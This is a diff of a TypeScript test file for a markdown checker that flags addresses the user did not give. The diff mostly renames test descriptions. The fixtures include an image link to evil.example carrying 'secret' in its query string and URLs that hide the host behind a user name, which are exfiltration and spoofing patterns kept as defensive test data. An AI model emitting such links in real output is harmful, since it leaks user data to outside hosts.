@@ -8,7 +8,7 @@ const given = {
 };
 const problems = (text: string) => markdownProblems("text", text, given);
 
-describe("an address that the person did not give is found", () => {
+describe("an address that the user did not give is found", () => {
   test.each([
     ["behind a quote, as a picture", "![a](https://'@evil.example/pixel?d=secret)"],
     ["behind a double quote", 'See https://"@evil.example'],
@@ -99,11 +99,11 @@ test.each([
   ["with the slash that it may have", "https://example.com/ and https://example.com"],
   ["with www, and as browsers read that", "www.example.net, http://www.example.net/"],
   ["not at all", "1 < 2, R&D; **bold** \\* &amp; [up](#start)"],
-])("an address that the person gave may stand %s: %s", (_, text) => {
+])("an address that the user gave may stand %s: %s", (_, text) => {
   expect(problems(text)).toEqual([]);
 });
 
-test("an address with a name or password in it is refused, even if the person gave it", () => {
+test("an address with a name or password in it is refused, even if the user gave it", () => {
   for (const text of ["https://example.com@evil.example/", "[a](https://:example.com@evil.example/)"]) {
     expect(markdownProblems("text", text, { topic: text })).toContainEqual(expect.stringContaining("is no address"));
   }
@@ -128,7 +128,7 @@ test("a long text full of brackets and marks is read in no time", () => {
   expect(performance.now() - started).toBeLessThan(5000);
 });
 
-test("what a draft takes from a person has no address, however it is written", () => {
+test("what an offline answer takes from a user has no address, however it is written", () => {
   const parts = fc.constantFrom(
     "https",
     "http",
